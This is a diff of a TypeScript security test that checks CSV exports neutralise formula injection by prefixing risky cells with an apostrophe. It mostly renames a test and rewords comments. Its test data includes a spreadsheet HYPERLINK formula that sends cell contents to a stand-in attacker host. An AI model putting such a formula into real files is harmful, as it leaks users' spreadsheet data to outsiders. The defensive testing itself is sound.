@@ -4,7 +4,6 @@ import { startWorld, type World } from "#tests/security/access-world.ts";
 import { expectHarmlessLink } from "#tests/security/harmless-link.ts";
 import { dangerousLinks } from "#tests/security/injection-payloads.ts";
 
-/** Beginnings that one spreadsheet program or another runs. */
 const dangerousCells: readonly string[] = [
   "=1+1",
   '=HYPERLINK("https://evil.example?"&A1)',
@@ -34,7 +33,7 @@ afterAll(() => world.stop());
 
 /** Source: OWASP ASVS 5.0, 1.2.10; OWASP CSV Injection; RFC 4180, 2.6 and 2.7. */
 describe("cells of a CSV file", () => {
-  test("begin with nothing that a spreadsheet program runs", async () => {
+  test("never start like a formula", async () => {
     const names = dangerousCells.map((cell, index) => `${cell} no. ${"abcdefghijklmnopqrstuvwxyz"[index]}`);
     const text = names.map(
       (name) => `"${name.replaceAll('"', '""')}",example.com,"${name.replaceAll('"', '""')}"`,
@@ -51,7 +50,7 @@ describe("cells of a CSV file", () => {
         bom: true,
       });
       for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/u);
-      // Each is there, behind an apostrophe, with what white space people do not mean taken away.
+      // Each is prefixed with an apostrophe, after whitespace is trimmed.
       const written = new Set(rows.map((row) => row[column]));
       for (const name of names) expect(written, path).toContain(`'${name.trim().replaceAll(/\s+/gu, " ")}`);
     }
